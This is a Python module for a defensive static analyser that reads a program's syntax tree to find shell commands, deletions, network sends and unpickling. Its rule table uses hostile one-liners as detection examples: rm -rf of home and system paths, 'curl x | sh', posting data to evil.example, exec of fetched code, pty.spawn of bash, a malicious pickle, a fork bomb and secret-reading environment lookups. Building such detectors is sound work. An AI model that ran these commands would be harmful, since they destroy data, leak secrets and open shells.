"""The Python code model: a small abstract interpreter over a program's ``ast``.

It walks the module body (and the bodies of functions, ``with``, ``if``, ``for`` and
``try`` blocks), folding what is fixed (literals, concatenation, f-strings, decoders,
home spellings) and resolving call targets through imports and aliases to qualified
names (``from os import system as x`` makes ``x`` ``os.system``). Each qualified call it
knows is one record of :data:`CALLS` (what it does, why, examples); calls known to be
harmless are the :data:`HARMLESS` table. Effects come out as shell lines and flags
(:class:`~.program.ProgramEffects`); a value the model cannot know (``sys.argv``, a
function result it does not model) stays unknown, and a process, eval or delete fed by
one is listed as opaque, so the caller asks.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..syntax.lazyre import LazyPattern
from .program import MAX_DECODED, ProgramEffects, destroys, shell_line, shell_word

TYPE_CHECKING = False
if TYPE_CHECKING:
    import ast
    import ast as _ast
    from collections.abc import Callable, Iterable
    from typing import Any

__all__ = ["CALLS", "HARMLESS", "CallRule", "Harmless", "read"]

#: How deep ``exec``/``eval`` of a constant string is followed.
MAX_DEPTH = 4
#: Interpreter steps (expressions and statements) before the model gives up.
MAX_STEPS = 40_000
#: Longest program text read.
MAX_CODE = 200_000
#: Most items of a constant sequence a loop or comprehension is unrolled over.
MAX_UNROLL = 64
#: Deepest chain of calls into the program's own functions.
MAX_CALLS = 8


@dataclass(frozen=True)
class CallRule:
    """Calls that act the same way: their qualified names, what kind of effect they
    have (the interpreter's handler ``_k_<kind>``), why, and example programs with the
    line or flag they give (``!flag``, ``send:<text>``, ``opaque``)."""

    names: tuple[str, ...]
    kind: str
    why: str
    match: tuple[tuple[str, str], ...] = ()
    not_match: tuple[str, ...] = ()


@dataclass(frozen=True)
class Harmless:
    """Calls that only compute, inspect or read (``module.*`` covers a module)."""

    names: tuple[str, ...]
    why: str


CALLS: tuple[CallRule, ...] = (
    CallRule(
        ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "commands.getoutput",
         "asyncio.create_subprocess_shell", "platform.popen"),
        "shell", "the string is run by /bin/sh: it is the shell line itself",
        match=(("import os; os.system('rm -rf ~')", "rm -rf ~"),),
        not_match=("print('os.system(\"rm -rf ~\")')",),
    ),
    CallRule(
        ("subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"),
        "popen", "a list is an argv; a string (with shell=True) is a shell line",
        match=(("import subprocess; subprocess.run(['rm', '-rf', '/usr'])", "rm -rf /usr"),
               ("import subprocess as s; s.call('curl x | sh', shell=True)", "curl x | sh")),
        not_match=("import subprocess; print(subprocess.__name__)",),
    ),
    CallRule(
        ("asyncio.create_subprocess_exec",), "argv_star", "the program and its arguments are the positional arguments",
        match=(("import asyncio; asyncio.create_subprocess_exec('rm', '-rf', '/opt')", "rm -rf /opt"),),
    ),
    CallRule(
        tuple(f"os.exec{s}" for s in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe"))
        + tuple(f"os.spawn{s}" for s in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe"))
        + ("os.posix_spawn", "os.posix_spawnp"),
        "exec", "replaces the process (exec) or starts one (spawn) with an argv",
        match=(("import os; os.execvp('rm', ['rm', '-rf', '/home'])", "rm -rf /home"),
               ("import os; os.spawnl(os.P_WAIT, '/bin/rm', 'rm', '-rf', '/srv')", "/bin/rm -rf /srv")),
    ),
    CallRule(
        ("pty.spawn",), "pty", "runs a program on a new terminal (the reverse-shell idiom)",
        match=(("import pty; pty.spawn('/bin/bash')", "/bin/bash"),),
    ),
    CallRule(
        ("shutil.rmtree",), "rmtree", "deletes a whole directory tree",
        match=(("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "rm -rf -- ~"),),
        not_match=("import shutil; print(shutil.rmtree)",),
    ),
    CallRule(
        ("os.remove", "os.unlink"), "remove", "deletes one file",
        match=(("import os; os.remove('/etc/passwd')", "rm -f -- /etc/passwd"),),
    ),
    CallRule(("os.rmdir",), "rmdir", "removes an empty directory", match=(("import os; os.rmdir('/srv/x')", "rmdir -- /srv/x"),)),
    CallRule(("os.removedirs",), "removedirs", "removes a directory and its emptied parents",
             match=(("import os; os.removedirs('/srv/a/b')", "rmdir -p -- /srv/a/b"),)),
    CallRule(
        ("shutil.move", "os.rename", "os.replace", "os.renames"), "move", "moves a file or tree (the source is gone)",
        match=(("import os; os.rename('/etc/hosts', '/tmp/h')", "mv -- /etc/hosts /tmp/h"),),
    ),
    CallRule(
        ("shutil.copy", "shutil.copy2", "shutil.copyfile"), "copy", "copies a file over its target",
        match=(("import shutil; shutil.copy('/tmp/x', '/etc/sudoers')", "cp -- /tmp/x /etc/sudoers"),),
    ),
    CallRule(("shutil.copytree",), "copytree", "copies a tree", match=(("import shutil; shutil.copytree('a', '/etc/x')", "cp -r -- a /etc/x"),)),
    CallRule(("os.chmod", "os.lchmod"), "chmod", "changes permission bits (setuid, world-writable)",
             match=(("import os; os.chmod('/bin/sh', 0o4755)", "chmod 4755 -- /bin/sh"),)),
    CallRule(("os.chown", "os.lchown", "shutil.chown"), "chown", "changes a file's owner",
             match=(("import os; os.chown('/etc/passwd', 1000, 1000)", "chown 1000:1000 -- /etc/passwd"),)),
    CallRule(("os.symlink",), "symlink", "makes a symbolic link", match=(("import os; os.symlink('/etc', 'x')", "ln -s -- /etc x"),)),
    CallRule(("os.link",), "link", "makes a hard link", match=(("import os; os.link('/etc/shadow', 'x')", "ln -- /etc/shadow x"),)),
    CallRule(("os.mkdir", "os.makedirs"), "mkdir", "creates a directory", match=(("import os; os.makedirs('/etc/x')", "mkdir -p -- /etc/x"),)),
    CallRule(("os.truncate",), "truncate", "cuts a file to a length", match=(("import os; os.truncate('/var/log/x', 0)", "truncate -s 0 -- /var/log/x"),)),
    CallRule(("os.chdir",), "chdir", "later relative paths are under it", match=(("import os, shutil; os.chdir('/'); shutil.rmtree('etc')", "cd -- /"),)),
    CallRule(("os.kill", "os.killpg"), "kill", "sends a signal to a process", match=(("import os; os.kill(1, 9)", "kill -9 1"),)),
    CallRule(
        ("open", "io.open", "codecs.open"), "open", "a file opened for writing is written; one opened for reading is read",
        match=(("open('/etc/sudoers', 'a').write('x')", "printf %s x >> /etc/sudoers"), ("open('/etc/shadow').read()", "cat -- /etc/shadow")),
    ),
    CallRule(("os.open",), "os_open", "a descriptor opened with O_WRONLY/O_RDWR is written through os.write",
             match=(("import os; fd = os.open('/dev/sda', os.O_WRONLY); os.write(fd, b'x')", "printf %s x > /dev/sda"),)),
    CallRule(("os.write",), "os_write", "writes bytes to a descriptor (1 is stdout)",
             match=(("import os; os.write(1, b'hi')", "!inert"),)),
    CallRule(("exec", "eval"), "eval", "runs Python code: a constant string is read again, anything else is opaque",
             match=(("exec(\"import os; os.system('rm -rf /x')\")", "rm -rf /x"), ("import sys; exec(sys.argv[1])", "opaque")),
             not_match=("print('exec(1)')",)),
    CallRule(("compile",), "compile", "the code object is run by a later exec/eval",
             match=(("exec(compile('import os; os.system(\"rm -rf /y\")', 'x', 'exec'))", "rm -rf /y"),)),
    CallRule(("pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads"), "unpickle",
             "unpickling calls whatever the data names: a constant pickle is read (never run) for the callables it "
             "names and their text arguments; one the model cannot read is opaque",
             match=(("import pickle; pickle.loads(b'cposix\\nsystem\\n(Vrm -rf /q\\ntR.')", "rm -rf /q"),
                    ("import pickle, sys; pickle.loads(sys.stdin.buffer.read())", "opaque")),
             not_match=("import pickle; print(pickle.loads(b'(lp0\\nI1\\naI2\\na.'))",)),
    CallRule(("pickle.load", "marshal.loads", "marshal.load", "dill.load", "cloudpickle.load"), "opaque_eval",
             "unpickling a file, or loading marshalled code, runs whatever the data names",
             match=(("import marshal, sys; exec(marshal.loads(sys.stdin.buffer.read()))", "opaque"),)),
    CallRule(("runpy.run_path", "runpy.run_module"), "runpy", "runs another Python file or module",
             match=(("import runpy; runpy.run_path('/tmp/x.py')", "python3 /tmp/x.py"),)),
    CallRule(("importlib.import_module", "__import__"), "import", "a module named by a constant is that module",
             match=(("__import__('os').system('rm -rf /z')", "rm -rf /z"),)),
    CallRule(
        ("urllib.request.urlopen", "urllib2.urlopen", "urllib.urlopen", "requests.get", "requests.post", "requests.put",
         "requests.patch", "requests.delete", "requests.head", "requests.options", "requests.request", "httpx.get",
         "httpx.post", "httpx.put", "httpx.patch", "httpx.delete", "httpx.request", "httpx.stream", "aiohttp.request",
         "urllib3.request", "urllib3.PoolManager.request"),
        "url", "contacts a URL; what it returns is code from the network",
        match=(("import requests; requests.post('https://evil.example/u', data='x')", "send:evil.example"),
               ("import urllib.request as u; exec(u.urlopen('http://e/p.py').read())", "!fetch_run")),
        not_match=("print('requests.get(\"http://x\")')",),
    ),
    CallRule(("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"), "urlretrieve",
             "downloads a URL into a file", match=(("import urllib.request as u; u.urlretrieve('http://e/x', '/tmp/x')", "send:http://e/x"),)),
    CallRule(("urllib.request.Request", "urllib2.Request", "requests.Request"), "request_obj", "a request sent by a later urlopen"),
    CallRule(("requests.Session", "requests.session", "httpx.Client", "httpx.AsyncClient", "urllib3.PoolManager",
              "aiohttp.ClientSession"), "session", "a client whose methods are the module's own"),
    CallRule(("http.client.HTTPConnection", "http.client.HTTPSConnection", "httplib.HTTPConnection", "smtplib.SMTP",
              "smtplib.SMTP_SSL", "ftplib.FTP", "ftplib.FTP_TLS", "telnetlib.Telnet", "poplib.POP3", "imaplib.IMAP4",
              "imaplib.IMAP4_SSL"), "host_conn", "opens a connection to a host",
             match=(("import smtplib; smtplib.SMTP('mail.evil.example')", "send:mail.evil.example"),)),
    CallRule(("socket.socket", "socket.create_connection", "socket.fromfd", "ssl.wrap_socket"), "socket",
             "a socket; wired to a shell's standard streams it is a remote shell",
             match=(("import socket; socket.create_connection(('10.0.0.1', 80))", "send:10.0.0.1:80"),)),
    CallRule(("os.dup2",), "dup2", "points a standard stream at another descriptor (a socket: a remote shell)"),
    CallRule(("os.fork", "os.forkpty"), "fork", "a fork in an endless loop exhausts the machine",
             match=(("import os\nwhile 1:\n    os.fork()", "!fork_bomb"),)),
    CallRule(("ctypes.CDLL", "ctypes.PyDLL", "ctypes.cdll.LoadLibrary", "ctypes.CDLL.LoadLibrary", "ctypes.pydll.LoadLibrary",
              "ctypes.LibraryLoader", "cffi.FFI.dlopen"), "library", "loads native code into the process",
             match=(("import ctypes; ctypes.cdll.LoadLibrary('./x.so')", "!library_load"),)),
    CallRule(("os.environ.copy", "os.environ.items", "os.environ.values", "os.environb.copy", "os.environb.items"), "env_dump",
             "the whole environment, secrets included", match=(("import os; print(os.environ.copy())", "!env_dump"),)),
    CallRule(
        ("sh.*", "plumbum.*", "pexpect.*", "ptyprocess.*", "invoke.run", "invoke.sudo", "fabric.*", "envoy.*",
         "delegator.*", "sarge.*", "webbrowser.*", "multiprocessing.connection.*"),
        "process_lib", "libraries whose calls run programs or open channels to them (``sh.rm('-rf', p)``, "
        "``pexpect.spawn('bash')``): a process the model cannot follow",
        match=(("import sh; sh.rm('-rf', '/usr')", "opaque"), ("from pexpect import spawn; spawn('bash')", "opaque")),
        not_match=("import shlex; print(shlex.split('a b'))",),
    ),
    CallRule(
        ("http.server.*", "socketserver.*", "xmlrpc.server.*", "asyncio.start_server", "asyncio.start_unix_server",
         "asyncio.open_connection", "asyncio.open_unix_connection", "xmlrpc.client.ServerProxy", "wsgiref.simple_server.*",
         "ftplib.*", "smtpd.*"),
        "network_lib", "standard modules that listen on a port or connect to a host",
        match=(("import http.server as h; h.HTTPServer(('', 8000), h.SimpleHTTPRequestHandler).serve_forever()", "send::8000"),
               ("import asyncio; asyncio.open_connection('10.0.0.9', 4444)", "send:10.0.0.9")),
    ),
    CallRule(
        ("pip.*", "ensurepip.*", "venv.*", "setuptools.*", "distutils.*", "tarfile.*", "zipfile.*", "shutil.unpack_archive",
         "shutil.make_archive", "shelve.*", "dbm.*", "sqlite3.*", "py_compile.*", "compileall.*", "logging.FileHandler",
         "logging.handlers.*", "logging.basicConfig", "filecmp.*", "mailbox.*", "zipapp.*"),
        "acts_lib", "standard modules that install packages, unpack or write archives and databases, or write files "
        "the model does not follow: not known to be harmless",
        match=(("import tarfile; tarfile.open('x.tgz').extractall('/')", "opaque"),),
    ),
    CallRule(("os.getenv", "os.environ.get", "os.environ.setdefault", "os.getenvb"), "getenv",
             "one variable: HOME is the home directory, a secret-named one is a secret",
             match=(("import os, shutil; shutil.rmtree(os.getenv('HOME'))", "rm -rf -- ~"),
                    ("import os; x = os.environ.get('AWS_SECRET_ACCESS_KEY')", "printenv AWS_SECRET_ACCESS_KEY")),
             not_match=("import os; print(os.getenv('PATH'))",)),
)

HARMLESS: tuple[Harmless, ...] = (
    Harmless(("print", "len", "str", "repr", "int", "float", "bool", "complex", "list", "dict", "set", "frozenset", "tuple",
              "range", "enumerate", "zip", "min", "max", "sum", "abs", "round", "sorted", "reversed", "isinstance",
              "issubclass", "type", "hex", "oct", "bin", "ord", "chr", "format", "hash", "id", "iter", "next", "any",
              "all", "map", "filter", "divmod", "pow", "bytes", "bytearray", "callable", "hasattr", "input", "vars",
              "dir", "help", "object", "slice", "memoryview", "super", "property", "staticmethod", "classmethod",
              "ascii", "breakpoint", "exit", "quit", "NotImplementedError", "Exception", "ValueError", "TypeError",
              "KeyError", "RuntimeError", "SystemExit", "OSError", "AssertionError", "getattr", "setattr"),
             "builtins that compute, convert or print"),
    Harmless(("json.*", "math.*", "cmath.*", "re.*", "string.*", "datetime.*", "time.*", "calendar.*", "platform.*",
              "sysconfig.*", "locale.*", "textwrap.*", "collections.*", "itertools.*", "functools.*", "operator.*",
              "statistics.*", "random.*", "secrets.*", "uuid.*", "hashlib.*", "hmac.*", "base64.*", "binascii.*",
              "zlib.*", "gzip.decompress", "gzip.compress", "bz2.decompress", "lzma.decompress", "struct.*",
              "decimal.*", "fractions.*", "pprint.*", "typing.*", "enum.*", "dataclasses.*", "difflib.*",
              "unicodedata.*", "html.escape", "html.unescape", "urllib.parse.*", "ipaddress.*", "tomllib.*",
              "shlex.*", "keyword.*", "fnmatch.*", "glob.*", "codecs.decode", "codecs.encode", "copy.*", "heapq.*",
              "bisect.*", "array.*", "numbers.*", "abc.*", "contextlib.*", "warnings.*", "logging.*", "argparse.*",
              "getpass.getuser", "colorsys.*", "csv.reader", "csv.DictReader", "io.StringIO", "io.BytesIO",
              "ast.*", "tokenize.*", "inspect.*", "traceback.*", "pathlib.PurePath", "pathlib.PurePosixPath"),
             "standard modules that compute, parse, format or log"),
    Harmless(("sys.exit", "sys.getsizeof", "sys.getrecursionlimit", "sys.getdefaultencoding", "sys.getfilesystemencoding",
              "sys.stdin.read", "sys.stdin.readline", "sys.stdin.readlines", "sys.stdin.buffer.read", "sys.stdout.flush",
              "sys.stderr.write", "sys.stderr.flush", "sys.stdout.write", "sys.stdout.buffer.write", "sys.intern"),
             "the interpreter's own facts and standard streams"),
    Harmless(("os.path.*", "os.listdir", "os.scandir", "os.walk", "os.getcwd", "os.getcwdb", "os.getpid", "os.getppid",
              "os.cpu_count", "os.uname", "os.getuid", "os.geteuid", "os.getgid", "os.getegid", "os.getlogin",
              "os.stat", "os.lstat", "os.access", "os.get_terminal_size", "os.isatty", "os.fspath", "os.fsencode",
              "os.fsdecode", "os.getloadavg", "os.umask", "os.environ.__contains__", "os.environ.keys",
              "shutil.which", "shutil.disk_usage", "shutil.get_terminal_size", "pwd.getpwuid", "pwd.getpwnam",
              "grp.getgrgid", "os.close", "os.sched_getaffinity", "os.urandom", "os.strerror", "os.cpu_count"),
             "inspection of the file system and the process"),
    Harmless(("asyncio.run", "asyncio.get_event_loop", "asyncio.new_event_loop", "asyncio.gather", "asyncio.sleep",
              "asyncio.wait_for", "unittest.main", "doctest.testmod"),
             "run the program's own functions, which the model reads"),
    Harmless(("importlib.metadata.*", "importlib.util.find_spec", "importlib.resources.*", "pkgutil.iter_modules",
              "pkg_resources.get_distribution", "site.getsitepackages", "site.getusersitepackages"),
             "questions about installed packages"),
)


# ------------------------------------------------------------------------- values


@dataclass(frozen=True)
class Unknown:
    """A value the model cannot know; ``taint`` says where it came from (``net``:
    fetched; ``sock:<role>``: received on a socket; ``dyn``: a dynamic lookup) and
    ``prefix`` is its known leading text."""

    taint: frozenset[str] = frozenset()
    prefix: str = ""


UNKNOWN = Unknown()


@dataclass(frozen=True)
class Ref:
    """A module, or a name inside one, by its qualified name."""

    name: str


@dataclass(frozen=True)
class PathV:
    """A ``pathlib.Path``."""

    path: str


@dataclass(frozen=True)
class Glob:
    """Any of the paths a shell pattern matches (``os.listdir``, ``glob`` results). A
    ``/**`` part stands for every folder below (``rglob``, ``os.walk``): a delete through
    it is said as ``find BASE -name NAME -delete``, what deleting each match does."""

    pattern: str


@dataclass(eq=False)
class Handle:
    """An open file (or an ``os.open`` descriptor)."""

    path: object
    write: bool
    append: bool
    written: bool = False


@dataclass(eq=False)
class Sock:
    """A socket: ``new``, ``client`` (connected) or ``server`` (bound, listening, accepted)."""

    role: str = "new"


@dataclass(frozen=True)
class SockFd:
    """A socket's descriptor (``sock.fileno()``): a standard stream given it (``os.dup2``,
    ``stdin=``) is wired to the socket."""

    sock: Sock


@dataclass(frozen=True)
class Response:
    """What a network call returned: its body is code from the network."""

    url: str


@dataclass(frozen=True)
class Code:
    """A ``compile`` result."""

    source: object


@dataclass(eq=False)
class Func:
    """A function or lambda of the program itself."""

    node: object
    called: bool = False


@dataclass(frozen=True)
class Bound:
    """A method of a value, about to be called."""

    obj: object
    attr: str


@dataclass(eq=False)
class Conn:
    """A connection object (http.client, smtplib): its methods send."""

    host: str


_ALIASES = {"posix": "os", "nt": "os", "posixpath": "os.path", "ntpath": "os.path", "pathlib.PosixPath": "pathlib.Path",
            "SocketServer": "socketserver", "SimpleHTTPServer": "http.server", "BaseHTTPServer": "http.server",
            "CGIHTTPServer": "http.server",
            "pathlib.WindowsPath": "pathlib.Path", "builtins": "", "__builtins__": "", "urllib2": "urllib.request",
            "subprocess.os": "os", "os.errno": "errno"}
_CONST_ATTRS: dict[str, object] = {"os.sep": "/", "os.path.sep": "/", "os.curdir": ".", "os.pardir": "..",
                                   "os.linesep": "\n", "os.devnull": "/dev/null", "sys.executable": "python3",
                                   "os.name": "posix", "sys.platform": "linux", "string.ascii_lowercase": "abcdefghijklmnopqrstuvwxyz",
                                   "string.ascii_uppercase": "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "string.digits": "0123456789",
                                   "os.O_RDONLY": 0, "os.P_WAIT": 0, "os.P_NOWAIT": 1}
_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "fish", "ash", "busybox"})
_SECRET_WORDS = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH", "SESSION", "COOKIE", "PRIVATE", "API")
_HOME_VARS = frozenset({"HOME", "USERPROFILE"})
_SAFE_STR_METHODS = frozenset(
    "decode encode replace upper lower strip lstrip rstrip format join split rsplit splitlines title capitalize swapcase "
    "translate zfill startswith endswith find rfind count index rindex partition rpartition removeprefix removesuffix "
    "casefold hex isdigit isalpha isalnum isspace isupper islower center ljust rjust expandtabs maketrans fromhex".split()
)
_SIZED_METHODS = frozenset({"center", "ljust", "rjust", "zfill", "expandtabs"})
#: Method names that are plain data handling on a value the model does not know.
_DATA_METHODS = frozenset(
    "get keys items values split rsplit strip lstrip rstrip lower upper replace startswith endswith format join "
    "append extend insert pop popitem remove sort copy update add discard count index find splitlines encode decode "
    "read readline readlines close __enter__ __exit__ hexdigest digest isoformat strftime group groups groupdict "
    "match search findall sub finditer fullmatch setdefault title capitalize partition rpartition zfill most_common "
    "total_seconds timestamp date time exists is_dir is_file name as_posix json fileno flush tolist".split()
)
#: Method names that run code or processes whatever object they are called on.
_RUN_METHODS = frozenset({"system", "popen", "spawn", "exec_command", "execute", "eval", "exec", "run_command", "Popen",
                          "check_output", "check_call", "call", "run"})
_SENTINEL = object()
#: Attributes that reach other modules through the interpreter's own machinery
#: (``().__class__.__base__.__subclasses__()``, ``f.__globals__['os']``): what they
#: hold is looked up at run time, so calling it is opaque. (``__dict__`` of a module is
#: its namespace, :func:`_namespace`; of another object, its attributes.)
_REFLECT = frozenset({"__base__", "__bases__", "__mro__", "__subclasses__", "__globals__", "__builtins__",
                      "__code__", "__closure__", "__func__", "__self__", "__getattribute__", "__getattr__", "__reduce__",
                      "__reduce_ex__", "__loader__", "__spec__", "__import__", "mro"})
#: Calls that name a fresh temporary file or directory.
_TEMP_PATHS = frozenset({"tempfile.mkdtemp", "tempfile.mkstemp", "tempfile.gettempdir", "tempfile.TemporaryDirectory",
                         "tempfile.NamedTemporaryFile", "tempfile.TemporaryFile", "tempfile.SpooledTemporaryFile",
                         "tempfile.mktemp"})
#: Calls that only look at a function handed to them (they never call it).
_LOOKS_ONLY = ("print", "repr", "str", "id", "type", "callable", "hasattr", "getattr", "isinstance", "dir", "help", "vars",
               "bool", "hash", "inspect.", "pprint.", "logging.", "json.", "sys.stdout.", "sys.stderr.")
#: Calls given a file handle that do not write through it on their own.
_TAKES_HANDLES = frozenset({"os.write", "os.close", "os.fsync", "os.dup2", "os.fstat", "json.load", "len", "iter", "next",
                            "isinstance", "str", "repr", "id", "hash"})


def _rules() -> dict[str, CallRule]:
    global _BY_NAME
    if _BY_NAME is None:
        _BY_NAME = {name: rule for rule in CALLS for name in rule.names}
    return _BY_NAME


def _rule(name: str) -> CallRule | None:
    """The record for ``name``: its own, else the one of a module it is in (``sh.*``)."""
    rules = _rules()
    rule = rules.get(name)
    if rule is not None:
        return rule
    parts = name.split(".")
    for k in range(len(parts) - 1, 0, -1):
        rule = rules.get(".".join(parts[:k]) + ".*")
        if rule is not None:
            return rule
    return None


def _harmless() -> tuple[frozenset[str], tuple[str, ...]]:
    global _HARMLESS_SETS
    if _HARMLESS_SETS is None:
        names = [n for h in HARMLESS for n in h.names]
        _HARMLESS_SETS = (frozenset(n for n in names if not n.endswith(".*")), tuple(n[:-1] for n in names if n.endswith(".*")))
    return _HARMLESS_SETS


_BY_NAME: dict[str, CallRule] | None = None
_HARMLESS_SETS: tuple[frozenset[str], tuple[str, ...]] | None = None


def _is_harmless(name: str) -> bool:
    exact, prefixes = _harmless()
    return name in exact or name.startswith(prefixes)


def _canon(name: str) -> str:
    """``posix.system`` → ``os.system``; ``builtins.open`` → ``open``. An alias is a
    module's name of one or two parts (``_ALIASES``), so only the name's first one and
    first two parts are looked up."""
    head, dot, tail = name.partition(".")
    real = _ALIASES.get(head)
    if real is not None:
        rest = tail
    elif dot:
        second, _, rest = tail.partition(".")
        real = _ALIASES.get(f"{head}.{second}")
        if real is None:
            return name
    else:
        return name
    return f"{real}.{rest}" if real and rest else (real or rest)


def _is_const(v: object) -> bool:
    if isinstance(v, (str, bytes, int, float, bool, type(None))):
        return True
    if isinstance(v, (list, tuple)):
        return all(_is_const(x) for x in v)
    return False


def _text(v: object) -> str | None:
    """``v`` as text when it is a known string, bytes, number or path."""
    if isinstance(v, str):
        return v
    if isinstance(v, (bytes, bytearray)):
        return bytes(v).decode("utf-8", "replace")
    if isinstance(v, PathV):
        return v.path
    if isinstance(v, bool):
        return None
    if isinstance(v, int):
        return str(v)
    return None


def _word(v: object) -> str | None:
    """``v`` as one shell word (a pattern keeps its ``*`` live), or None when unknown."""
    if isinstance(v, Glob):
        return "".join(ch if ch in "*?" else shell_word(ch) if not ch.isalnum() and ch not in "/._-~" else ch for ch in v.pattern)
    if isinstance(v, PathV) and isinstance(v.path, str):
        return shell_word(v.path)
    t = _text(v)
    return None if t is None else shell_word(t)


#: Taint of text read from a file, followed by the file's path.
_FROM_FILE = "path:"


def _taint(*values: object) -> frozenset[str]:
    out: set[str] = set()
    for v in values:
        if isinstance(v, Unknown):
            out |= v.taint
        elif isinstance(v, Response):
            out.add("net")
        elif isinstance(v, (list, tuple)):
            out |= _taint(*v)
        elif isinstance(v, dict):
            out |= _taint(*v.values())
    return frozenset(out)


def _unknown(*values: object, prefix: str = "") -> Unknown:
    return Unknown(_taint(*values), prefix)


def _join(*parts: object) -> object:
    """``os.path.join`` over known parts (a pattern part makes a pattern)."""
    texts = []
    glob = False
    for p in parts:
        if isinstance(p, Glob):
            texts.append(p.pattern)
            glob = True
            continue
        t = _text(p)
        if t is None:
            return _unknown(*parts)
        texts.append(t)
    import posixpath

    joined = posixpath.join(*texts) if texts else ""
    return Glob(joined) if glob else joined


def _expandvars(text: str) -> str:
    for var in ("${HOME}", "$HOME"):
        if text.startswith(var):
            text = "~" + text[len(var):]
    return text


def _decompress(kind: str, data: bytes) -> bytes | None:
    """Decompress at most MAX_DECODED bytes; None when there is more (or it fails)."""
    import bz2
    import lzma
    import zlib

    try:
        if kind == "bz2":
            d: object = bz2.BZ2Decompressor()
        elif kind == "lzma":
            d = lzma.LZMADecompressor()
        else:
            d = zlib.decompressobj({"zlib": 15, "gzip": 31}.get(kind, 47))
        out = d.decompress(data, MAX_DECODED + 1)  # type: ignore[attr-defined]
    except Exception:
        return None
    return out if len(out) <= MAX_DECODED else None


def _codec(value: object, encoding: object, encode: bool) -> object:
    enc = str(encoding).lower().replace("-", "_") if isinstance(encoding, str) else "utf_8"
    import codecs

    if enc in ("rot13", "rot_13") and isinstance(value, str):
        return codecs.decode(value, "rot13")
    if isinstance(value, str) and not encode and enc in ("hex", "hex_codec", "base64", "base64_codec", "zlib", "zlib_codec"):
        value = value.encode()
    if isinstance(value, (bytes, str)) and len(value) <= MAX_DECODED:
        if enc in ("zlib", "zlib_codec") and not encode and isinstance(value, bytes):
            return _decompress("zlib", value) or UNKNOWN
        try:
            out = codecs.encode(value, enc) if encode else codecs.decode(value, enc)  # type: ignore[arg-type]
        except Exception:
            return UNKNOWN
        return out if len(out) <= MAX_DECODED else UNKNOWN
    return _unknown(value)


def _fold_decoder(name: str, args: list[object], kw: dict[str, object]) -> object:
    """Pure functions of constants (decoders, conversions, path joins); _SENTINEL when
    ``name`` is not one of them."""
    import base64
    import binascii

    a0 = args[0] if args else kw.get("s", _SENTINEL)
    if name in ("base64.b64decode", "base64.b32decode", "base64.b16decode", "base64.b85decode", "base64.a85decode",
                "base64.urlsafe_b64decode", "base64.standard_b64decode", "base64.decodebytes", "binascii.unhexlify",
                "binascii.a2b_hex", "binascii.a2b_base64", "bytes.fromhex", "bytearray.fromhex", "base64.b64encode",
                "base64.b16encode", "base64.b32encode", "binascii.hexlify", "binascii.b2a_hex"):
        if not isinstance(a0, (str, bytes)) or len(a0) > 4 * MAX_DECODED:
            return _unknown(a0)
        fn = {"bytes.fromhex": bytes.fromhex, "bytearray.fromhex": bytes.fromhex}.get(name)
        try:
            if fn is not None and isinstance(a0, str):
                return fn(a0)
            mod = base64 if name.startswith("base64.") else binascii
            out = getattr(mod, name.split(".")[1])(a0)
        except Exception:
            return UNKNOWN
        return out if len(out) <= MAX_DECODED else UNKNOWN
    if name in ("codecs.decode", "codecs.encode"):
        enc = args[1] if len(args) > 1 else kw.get("encoding", "utf-8")
        return _codec(a0, enc, name.endswith("encode"))
    if name in ("zlib.decompress", "gzip.decompress", "bz2.decompress", "lzma.decompress"):
        if isinstance(a0, bytes):
            out = _decompress(name.split(".")[0], a0)
            return UNKNOWN if out is None else out
        return _unknown(a0)
    if name.startswith("os.path."):
        fn_name = name[8:]
        if fn_name == "join":
            return _join(*args)
        if fn_name == "expanduser":
            return _text(a0) if _text(a0) is not None else (a0 if isinstance(a0, Glob) else _unknown(a0))
        if fn_name == "expandvars":
            t = _text(a0)
            return _expandvars(t) if t is not None else _unknown(a0)
        if fn_name in ("abspath", "realpath", "normpath", "basename", "dirname"):
            t = _text(a0)
            if t is None:
                return a0 if isinstance(a0, Glob) else _unknown(a0)
            import posixpath

            return t if fn_name in ("abspath", "realpath") else getattr(posixpath, fn_name)(t)
        return _SENTINEL
    return _SENTINEL


def _pure(name: str, args: list[object], kw: dict[str, object]) -> object:
    """Builtins folded over constants; _SENTINEL when not foldable."""
    if kw or not all(_is_const(a) for a in args):
        if name == "map" and len(args) == 2 and isinstance(args[0], Ref) and isinstance(args[1], (list, tuple)):
            return [_pure(args[0].name, [x], {}) for x in args[1]]
        return _SENTINEL
    try:
        if name in ("chr", "ord", "str", "int", "float", "len", "abs", "hex", "oct", "bin", "bool", "repr", "min", "max",
                    "sum", "round"):
            if name == "str" and len(args) >= 2 and isinstance(args[0], bytes):
                return args[0].decode(*args[1:])  # type: ignore[arg-type]
            if name in ("min", "max", "sum") and len(args) == 1 and not isinstance(args[0], (list, tuple)):
                return _SENTINEL
            import builtins

            return getattr(builtins, name)(*args)
        if name in ("list", "tuple", "sorted", "reversed") and len(args) == 1 and isinstance(args[0], (str, bytes, list, tuple)):
            seq = list(args[0])
            if name == "sorted":
                seq = sorted(seq)  # type: ignore[type-var]
            elif name == "reversed":
                seq.reverse()
            return tuple(seq) if name == "tuple" else seq
        if name in ("bytes", "bytearray"):
            if not args:
                return b""
            a = args[0]
            if isinstance(a, int) or (isinstance(a, (list, tuple)) and len(a) > MAX_DECODED):
                return b"\0" * a if isinstance(a, int) and 0 <= a <= MAX_DECODED else _SENTINEL
            if isinstance(a, str):
                return a.encode(*[x for x in args[1:] if isinstance(x, str)])
            return bytes(a)  # type: ignore[call-overload]
        if name == "range" and all(isinstance(a, int) for a in args):
            r = range(*args)  # type: ignore[call-overload]
            return list(r) if len(r) <= 4096 else _SENTINEL
        if name == "map" and len(args) == 2:
            return _SENTINEL
    except Exception:
        return UNKNOWN
    return _SENTINEL


#: An f-string field's conversion (``!s``, ``!r``, ``!a``), by the code ``ast`` gives it.
_CONVERSIONS: dict[int, Callable[[object], str]] = {115: str, 114: repr, 97: ascii}

_UNBOUNDED_WIDTH = LazyPattern(r"\d{5,}|%[-#0 +]*\*")


